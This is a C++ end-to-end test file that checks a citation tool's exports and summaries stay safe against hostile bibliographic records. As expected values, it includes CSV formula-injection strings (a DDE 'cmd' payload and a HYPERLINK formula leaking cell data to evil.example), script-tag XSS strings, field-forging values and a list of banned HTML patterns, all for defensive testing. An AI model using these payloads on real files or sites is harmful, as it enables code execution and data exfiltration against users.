// Exports and renderers against hostile records, end to end: tests/fixtures/hostile/hostile_records.xml
// goes through the real `ldn ingest`, and every output a user can ask for is checked against its
// format's rule (docs/EXPORTS.md), for every field at once (title, authors, group author, journal,
// volume, pages, DOI, PMC id, abstract, keywords). The unit tests (tests/unit/query/export_*_test.cpp,
// tests/unit/summary/) check each escaping function on its own; these check that nothing between the
// parser and the output bypasses them.
//   csv       no cell starts a formula (= + - @ tab CR); RFC 4180 quoting keeps one row per record
//   ris       every line is a tag line: no value can start a line of its own (a forged ER or AU)
//   bibtex    braces balance in every entry, and the entries have exactly their own fields
//   csl-json  valid JSON holding the text as data
//   nbib      every line is a tag line or a continuation line
//   cite, search --format table, show: one line per record, no terminal escape sequence
//   summarize html: no tag or attribute from a record survives; md: no table gains a column
#include <catch2/catch.hpp>

#include <nlohmann/json.hpp>

#include <algorithm>
#include <cctype>
#include <map>
#include <regex>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "tests/support/paths.hpp"
#include "tests/support/process.hpp"

using ldn::test::ProcessResult;
using ldn::test::run_process;

namespace {

const std::vector<std::string> hostile_pmids{"97200001", "97200002"};

// One store with the hostile records, ingested once for every test case here.
class HostileStore {
public:
    HostileStore() {
        auto result = run_process(ldn::test::ldn_binary(),
                                  {"ingest", ldn::test::fixture("hostile/hostile_records.xml").string(), "--store",
                                   store().string(), "--quiet"});
        INFO(result.err);
        REQUIRE(result.exit_code == 0);
    }
    std::filesystem::path store() const { return dir_.path() / "store"; }

    ProcessResult ldn(std::vector<std::string> args) const {
        args.push_back("--store");
        args.push_back(store().string());
        auto result = run_process(ldn::test::ldn_binary(), args, {"COLUMNS=160"});
        INFO(result.err);
        REQUIRE(result.exit_code == 0);
        return result;
    }

private:
    ldn::test::TempDir dir_;
};

const HostileStore& hostile_store() {
    static const HostileStore store;
    return store;
}

std::vector<std::string> split(const std::string& text, const std::string& separator) {
    std::vector<std::string> parts;
    std::size_t from = 0;
    for (std::size_t at; (at = text.find(separator, from)) != std::string::npos; from = at + separator.size()) {
        parts.push_back(text.substr(from, at - from));
    }
    parts.push_back(text.substr(from));
    return parts;
}

// Control characters a terminal or a line-based reader would act on: C0 but the line ends asked
// for, DEL, C1 (UTF-8 C2 80..9F), and unless told otherwise U+2028 and U+2029 (line ends to some
// readers, plain white space in HTML).
bool has_control_characters(std::string_view text, std::string_view allowed = "\n", bool line_separators = true) {
    for (std::size_t i = 0; i < text.size(); ++i) {
        const auto byte = static_cast<unsigned char>(text[i]);
        if ((byte < 0x20 || byte == 0x7F) && allowed.find(text[i]) == std::string_view::npos) return true;
        if (byte == 0xC2 && i + 1 < text.size() && static_cast<unsigned char>(text[i + 1]) <= 0x9F &&
            static_cast<unsigned char>(text[i + 1]) >= 0x80) {
            return true;
        }
        if (line_separators && byte == 0xE2 && i + 2 < text.size() && static_cast<unsigned char>(text[i + 1]) == 0x80 &&
            (static_cast<unsigned char>(text[i + 2]) == 0xA8 || static_cast<unsigned char>(text[i + 2]) == 0xA9)) {
            return true;
        }
    }
    return false;
}

// RFC 4180: rows of cells; quoted cells may hold commas, doubled quotes and line breaks.
std::vector<std::vector<std::string>> parse_csv(const std::string& text) {
    std::vector<std::vector<std::string>> rows;
    std::vector<std::string> row;
    std::string cell;
    bool quoted = false;
    for (std::size_t i = 0; i < text.size(); ++i) {
        char c = text[i];
        if (quoted) {
            if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
                cell += '"';
                ++i;
            } else if (c == '"') {
                quoted = false;
            } else {
                cell += c;
            }
        } else if (c == '"') {
            quoted = true;
        } else if (c == ',') {
            row.push_back(std::move(cell));
            cell.clear();
        } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
            row.push_back(std::move(cell));
            cell.clear();
            rows.push_back(std::move(row));
            row.clear();
            ++i;
        } else {
            cell += c;
        }
    }
    REQUIRE_FALSE(quoted);
    REQUIRE(cell.empty());
    REQUIRE(row.empty());
    return rows;
}

struct BibtexEntry {
    std::string type, key;
    std::vector<std::string> fields;  // names, in order
    std::map<std::string, std::string> values;
};

// BibTeX as BibTeX reads it: outside entries only '@' matters; inside, every brace counts (an
// escaped \{ too), a field is NAME = {…} or NAME = bareword, and the entry ends at its closing brace.
std::vector<BibtexEntry> parse_bibtex(const std::string& text) {
    std::vector<BibtexEntry> entries;
    std::size_t i = 0;
    auto skip_space = [&] {
        while (i < text.size() && std::isspace(static_cast<unsigned char>(text[i]))) ++i;
    };
    auto word = [&] {
        std::size_t start = i;
        while (i < text.size() && (std::isalnum(static_cast<unsigned char>(text[i])) || text[i] == '_' || text[i] == '-')) ++i;
        return text.substr(start, i - start);
    };
    while ((i = text.find('@', i)) != std::string::npos) {
        ++i;
        BibtexEntry entry;
        entry.type = word();
        REQUIRE(i < text.size());
        REQUIRE(text[i] == '{');
        ++i;
        std::size_t comma = text.find(',', i);
        REQUIRE(comma != std::string::npos);
        entry.key = text.substr(i, comma - i);
        i = comma + 1;
        for (;;) {
            skip_space();
            REQUIRE(i < text.size());
            if (text[i] == '}') {
                ++i;
                break;
            }
            std::string name = word();
            REQUIRE_FALSE(name.empty());
            skip_space();
            REQUIRE(text[i] == '=');
            ++i;
            skip_space();
            std::string value;
            if (text[i] == '{') {
                int depth = 0;
                std::size_t start = i;
                do {
                    REQUIRE(i < text.size());
                    if (text[i] == '{') ++depth;
                    if (text[i] == '}') --depth;
                    ++i;
                } while (depth > 0);
                value = text.substr(start + 1, i - start - 2);
            } else {
                value = word();
            }
            entry.fields.push_back(name);
            entry.values[name] = value;
            skip_space();
            if (text[i] == ',') ++i;
        }
        entries.push_back(std::move(entry));
    }
    return entries;
}

// The cell separators of a Markdown table row: '|' not escaped by a backslash.
std::size_t unescaped_pipes(const std::string& line) {
    std::size_t pipes = 0;
    for (std::size_t i = 0; i < line.size(); ++i) {
        if (line[i] == '\\') {
            ++i;
        } else if (line[i] == '|') {
            ++pipes;
        }
    }
    return pipes;
}

}  // namespace

TEST_CASE("hostile records in CSV: no cell starts a formula, one row per record, columns intact",
          "[hardening][exports][csv]") {
    const std::string text = hostile_store().ldn({"export", "--format", "csv", "--quiet"}).out;
    CHECK_FALSE(has_control_characters(text, "\r\n"));
    const auto rows = parse_csv(text);
    REQUIRE(rows.size() == 3);
    const auto& header = rows[0];
    for (const auto& row : rows) {
        REQUIRE(row.size() == header.size());
        for (const std::string& cell : row) {
            CAPTURE(cell);
            CHECK(cell.find_first_of("\r\n") == std::string::npos);
            if (!cell.empty()) CHECK(std::string_view("=+-@\t\r").find(cell.front()) == std::string_view::npos);
        }
    }
    auto column = [&](const std::string& name) {
        auto found = std::find(header.begin(), header.end(), name);
        REQUIRE(found != header.end());
        return static_cast<std::size_t>(found - header.begin());
    };
    const auto& hostile = rows[1][column("pmid")] == "97200001" ? rows[1] : rows[2];
    // Neutralised, not lost: the apostrophe shows the text as written.
    CHECK(hostile[column("title")].starts_with("'=cmd|' /C calc'!A0 <script>alert(\"title\")</script>"));
    CHECK(hostile[column("authors")].starts_with("'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") I; "));
    CHECK(hostile[column("journal")] == "'+Journal of <b>Hostile</b> | Titles {");
    CHECK(hostile[column("journal_abbrev")] == "'-Hostile J");
    CHECK(hostile[column("volume")] == "'=1+1");
    CHECK(hostile[column("issue")] == "'@2");
    CHECK(hostile[column("pages")] == "'=1-9");
}

TEST_CASE("hostile records in RIS: every line is a tag line, so no value forges a tag or ends a record",
          "[hardening][exports][ris]") {
    const std::string text = hostile_store().ldn({"export", "--format", "ris", "--quiet"}).out;
    CHECK_FALSE(has_control_characters(text, "\r\n"));
    const std::regex tag_line(R"([A-Z][A-Z0-9]  - .*)");
    std::vector<std::string> tags;
    for (const std::string& line : split(text, "\r\n")) {
        if (line.empty()) continue;
        CAPTURE(line);
        REQUIRE(std::regex_match(line, tag_line));
        tags.push_back(line.substr(0, 2));
    }
    CHECK(std::count(tags.begin(), tags.end(), "TY") == 2);
    CHECK(std::count(tags.begin(), tags.end(), "ER") == 2);
    CHECK(tags.front() == "TY");
    CHECK(tags.back() == "ER");
    CHECK(std::count(tags.begin(), tags.end(), "TI") == 2);
    CHECK(std::count(tags.begin(), tags.end(), "AU") == 6);  // five in the first record, one in the second
    CHECK(text.find("\r\nAU  - Forged") == std::string::npos);
}

TEST_CASE("hostile records in BibTeX: braces balance and each entry has exactly its own fields",
          "[hardening][exports][bibtex]") {
    const std::string text = hostile_store().ldn({"export", "--format", "bibtex", "--quiet"}).out;
    CHECK_FALSE(has_control_characters(text));
    CHECK(std::count(text.begin(), text.end(), '{') == std::count(text.begin(), text.end(), '}'));
    const auto entries = parse_bibtex(text);
    REQUIRE(entries.size() == 2);  // the title's "@article{forged," opened no entry
    const std::set<std::string> known{"author", "title",  "journal", "shortjournal", "year",     "month",
                                      "volume", "number", "pages",   "issn",         "doi",      "pmid",
                                      "pmcid",  "abstract", "keywords", "language",   "note"};
    for (const auto& entry : entries) {
        CAPTURE(entry.key);
        CHECK(entry.type == "article");
        std::set<std::string> seen;
        for (const std::string& field : entry.fields) {
            CAPTURE(field);
            CHECK(known.count(field) == 1);
            CHECK(seen.insert(field).second);  // "Brace}, title = {Injected" added no second title
        }
    }
    const auto& hostile = entries[0].key == "pmid97200001" ? entries[0] : entries[1];
    REQUIRE(hostile.key == "pmid97200001");
    CHECK(hostile.values.at("title").starts_with("{=cmd|' /C calc'!A0 <script>"));
    CHECK(hostile.values.at("author").find("Brace\\textbraceright{}, title = \\textbraceleft{}Injected") !=
          std::string::npos);
}

TEST_CASE("hostile records in CSL-JSON: valid JSON that carries the text as data", "[hardening][exports][csl-json]") {
    const std::string text = hostile_store().ldn({"export", "--format", "csl-json", "--quiet"}).out;
    const auto items = nlohmann::json::parse(text);
    REQUIRE(items.is_array());
    REQUIRE(items.size() == 2);
    const auto& hostile = items[0].at("id") == "pmid:97200001" ? items[0] : items[1];
    const std::string title = hostile.at("title");
    CHECK(title.starts_with("=cmd|' /C calc'!A0 <script>alert(\"title\")</script>"));
    CHECK_FALSE(has_control_characters(title));
    CHECK(hostile.at("author").size() == 5);
    CHECK(hostile.at("author")[4].at("literal") == "LDN </td><script>alert(2)</script> | Group } and {Others");
}

TEST_CASE("hostile records in MEDLINE (nbib): every line is a tag line or a continuation",
          "[hardening][exports][nbib]") {
    const std::string text = hostile_store().ldn({"export", "--format", "nbib", "--quiet"}).out;
    CHECK_FALSE(has_control_characters(text));
    const std::regex tag_line(R"([A-Z][A-Z ]{3}- .*)");
    const std::regex continuation(R"( {6}\S.*)");
    std::size_t records = 0;
    for (const std::string& line : split(text, "\n")) {
        if (line.empty()) continue;
        CAPTURE(line);
        CHECK((std::regex_match(line, tag_line) || std::regex_match(line, continuation)));
        if (line.starts_with("PMID- ")) ++records;
        CHECK_FALSE(line.starts_with("AU  - Forged"));
    }
    CHECK(records == 2);
}

TEST_CASE("hostile records in references, the result table and show: one line each, no terminal escapes",
          "[hardening][exports][terminal]") {
    for (const std::string style : {"ama", "vancouver", "apa"}) {
        CAPTURE(style);
        const std::string text = hostile_store().ldn({"cite", "97200001", "97200002", "--style", style}).out;
        CHECK_FALSE(has_control_characters(text));
        CHECK(std::count(text.begin(), text.end(), '\n') == 2);
    }
    const std::string table = hostile_store().ldn({"search", "--format", "table"}).out;
    CAPTURE(table);
    CHECK_FALSE(has_control_characters(table));
    std::size_t rows = 0;
    for (const std::string& line : split(table, "\n")) rows += line.starts_with("972000") ? 1 : 0;
    CHECK(rows == 2);  // each record on one line of its own
    const std::string shown = hostile_store().ldn({"show", "97200001", "97200002"}).out;
    CHECK_FALSE(has_control_characters(shown));
}

TEST_CASE("hostile records in the HTML summary: no tag, attribute or script from a record survives",
          "[hardening][exports][html]") {
    const std::string html =
        hostile_store().ldn({"summarize", "--format", "html", "--now", "2026-01-01", "--condition", "fibromyalgia"}).out;
    // Both trials are key studies: their titles, conclusions and references are on the page.
    CHECK(html.find("&lt;script&gt;alert(&quot;title&quot;)&lt;/script&gt;") != std::string::npos);
    CHECK(html.find("&lt;script&gt;alert(&quot;conclusion&quot;)&lt;/script&gt;") != std::string::npos);
    CHECK(html.find("LDN &lt;/td&gt;&lt;script&gt;alert(2)&lt;/script&gt;") != std::string::npos);
    std::string lower = html;
    std::transform(lower.begin(), lower.end(), lower.begin(), [](unsigned char c) { return std::tolower(c); });
    for (const char* forbidden : {"<script", "<img", "<b>", "<h1>forged", "</blockquote><h1", "</td><script",
                                  "\" onmouseover="}) {
        CAPTURE(forbidden);
        CHECK(lower.find(forbidden) == std::string::npos);
    }
    CHECK_FALSE(std::regex_search(lower, std::regex("<[^>]*javascript:")));  // as text it is harmless
    CHECK_FALSE(has_control_characters(html, "\n", false));
}

TEST_CASE("hostile records in the Markdown summary: every table keeps its columns, nothing reaches the terminal",
          "[hardening][exports][markdown]") {
    const std::string md = hostile_store().ldn({"summarize", "--now", "2026-01-01", "--condition", "fibromyalgia"}).out;
    CHECK_FALSE(has_control_characters(md));
    CHECK(md.find("\\<script\\>alert(\"title\")\\</script\\>") != std::string::npos);
    std::size_t columns = 0;
    std::size_t table_rows = 0;
    for (const std::string& line : split(md, "\n")) {
        if (!line.starts_with("|")) {
            columns = 0;  // a table ends with its first line that is not a row
            continue;
        }
        CAPTURE(line);
        if (columns == 0) columns = unescaped_pipes(line);
        CHECK(unescaped_pipes(line) == columns);
        ++table_rows;
    }
    CHECK(table_rows > 5);
    // Nothing from a record opens HTML or a link: every '<' and '[' of the hostile text is escaped.
    for (const std::string& line : split(md, "\n")) {
        if (line.find("alert(") == std::string::npos) continue;
        CAPTURE(line);
        CHECK(std::regex_search(line, std::regex(R"((^|[^\\])<)")) == false);
        CHECK_FALSE(std::regex_search(line, std::regex(R"((^|[^\\])\]\()")));  // "\](" is text, "](" a link
    }
}
